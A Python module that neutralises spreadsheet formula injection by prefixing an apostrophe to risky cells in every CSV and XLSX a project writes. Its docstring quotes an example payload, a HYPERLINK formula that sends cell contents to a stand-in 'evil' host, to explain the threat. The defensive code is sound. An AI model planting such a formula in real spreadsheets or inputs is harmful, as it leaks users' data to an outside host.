"""The one guard against formula injection in every CSV and XLSX the project writes.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula: a comment ``=HYPERLINK("http://evil/?"&A1,"click")`` becomes a live link
that leaks the sheet. OWASP's remedy is applied here: such text gets a leading apostrophe, which every
spreadsheet program shows as plain text. Numbers, and text that reads as a number (``-0.5``), are left
as they are, so machine-readable outputs keep their values.

Every writer goes through :func:`safe_cell` (directly, or through :class:`CsvWriter`,
:class:`DictCsvWriter`, :func:`safe_frame`); ``tests/platform/test_formula_injection.py`` checks that no
module writes CSV or XLSX around it.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:  # pandas only for the annotation: the CLI must start without importing it
    from pathlib import Path

    import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would run as a formula; then ``'`` + text."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _is_number(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of ``row`` through :func:`safe_cell`."""
    return [safe_cell(v) for v in row]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) went through :func:`safe_cell`."""
    out = frame.copy()
    for column in _text_columns(out):
        out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def _text_columns(frame: pd.DataFrame) -> list[Any]:
    """Columns that can hold text: object and string dtypes."""
    # local import: only the frame writers need pandas
    from pandas.api.types import is_object_dtype, is_string_dtype

    return [c for c, dtype in frame.dtypes.items() if is_object_dtype(dtype) or is_string_dtype(dtype)]


def write_frame(
    frame: pd.DataFrame, path: str | Path, *, index: bool = False, first: Sequence[str] = ()
) -> None:
    """``frame`` as a CSV file, text neutralised: the bytes of pandas' ``safe_frame(out).to_csv(path,
    index=False)``, where ``out`` is ``frame`` (with ``index``: ``frame.reset_index()``) with the columns
    named in ``first`` moved to the front.

    Cells are converted as pandas converts them for CSV (floats by numpy's shortest round-trip ``str``,
    so the file reads back bit for bit; missing values empty) and written by the csv module, a row at a
    time from one table of strings: pandas' CSV formatter, and the copies of ``reset_index`` and
    ``safe_frame``, cost more than the writing itself in a short command (issue 9 §5). Columns of other
    dtypes (dates, categories, …) go through pandas' own writer.
    """
    # local imports: the CLI must start without numpy and pandas; only the frame writers need them
    import numpy as np
    from pandas import isna
    from pandas.api.types import is_object_dtype, is_string_dtype

    names: list[Any] = []
    columns: list[Any] = []  # index levels (as arrays), then column positions in ``frame``
    if index:
        levels = frame.index.nlevels
        for level, name in enumerate(frame.index.names):
            names.append(name if name is not None else ("index" if levels == 1 else f"level_{level}"))
            columns.append(frame.index.get_level_values(level))
    names.extend(frame.columns)
    columns.extend(range(frame.shape[1]))
    order = [names.index(n) for n in first if n in names]
    order += [i for i in range(len(names)) if i not in order]
    dtypes = list(frame.dtypes)
    table = np.empty((len(frame), len(order)), dtype=object)
    wide = [
        at for at, i in enumerate(order) if isinstance(columns[i], int) and dtypes[columns[i]] == np.float64
    ]
    if wide:  # every float64 column in one go
        block = frame.iloc[:, [columns[order[at]] for at in wide]].to_numpy(dtype=np.float64)
        strings = block.astype(str).astype(object)
        strings[np.isnan(block)] = ""
        table[:, wide] = strings
    done = set(wide)
    for at, i in enumerate(order):
        if at in done:
            continue
        column = columns[i]
        series = frame.iloc[:, column] if isinstance(column, int) else column
        dtype = series.dtype
        kind = getattr(dtype, "kind", None)
        if is_object_dtype(dtype) or is_string_dtype(dtype):
            values = series.to_numpy(dtype=object)
            missing = isna(values).tolist()
            table[:, at] = ["" if m else safe_cell(v) for v, m in zip(values.tolist(), missing, strict=True)]
        elif isinstance(dtype, np.dtype) and kind == "f":
            values = series.to_numpy()
            text = values.astype(str).astype(object)
            text[np.isnan(values)] = ""
            table[:, at] = text
        elif kind in ("i", "u", "b"):  # numpy's and pandas' nullable integers and booleans
            values = series.to_numpy(dtype=object)
            table[:, at] = [
                "" if m else v for v, m in zip(values.tolist(), isna(values).tolist(), strict=True)
            ]
        else:
            break
    else:
        if order:
            with open(path, "w", newline="", encoding="utf-8") as handle:
                writer = csv.writer(handle, lineterminator="\n")
                writer.writerow(safe_row(names[i] for i in order))
                writer.writerows(table.tolist())
            return
    out = frame.reset_index() if index else frame
    safe_frame(out[[names[i] for i in order]]).to_csv(path, index=False)


class CsvWriter:
    """``csv.writer`` whose rows pass through :func:`safe_row` (``lineterminator`` ``\\n``)."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, lineterminator="\n", **options)

    def writerow(self, row: Sequence[Any]) -> None:
        """Write one row, neutralised."""
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        """Write several rows, neutralised."""
        for row in rows:
            self.writerow(row)


class DictCsvWriter:
    """``csv.DictWriter`` whose header and values pass through :func:`safe_cell`."""

    def __init__(self, handle: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.writer(handle, lineterminator="\n", **options)

    def writeheader(self) -> None:
        """The header row, neutralised."""
        self._writer.writerow(safe_row(self.fieldnames))

    def writerow(self, row: Mapping[str, Any]) -> None:
        """One row in ``fieldnames`` order (missing keys empty), neutralised; unknown keys are an error."""
        extra = set(row) - set(self.fieldnames)
        if extra:
            raise ValueError(f"row has keys not in the header: {sorted(extra)}")
        self._writer.writerow(safe_row(row.get(name, "") for name in self.fieldnames))

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        """Several rows, neutralised."""
        for row in rows:
            self.writerow(row)


def append_row(sheet: Any, row: Iterable[Any]) -> None:
    """``sheet.append(row)`` for an openpyxl worksheet, neutralised (openpyxl stores ``=…`` as a formula)."""
    sheet.append(safe_row(row))
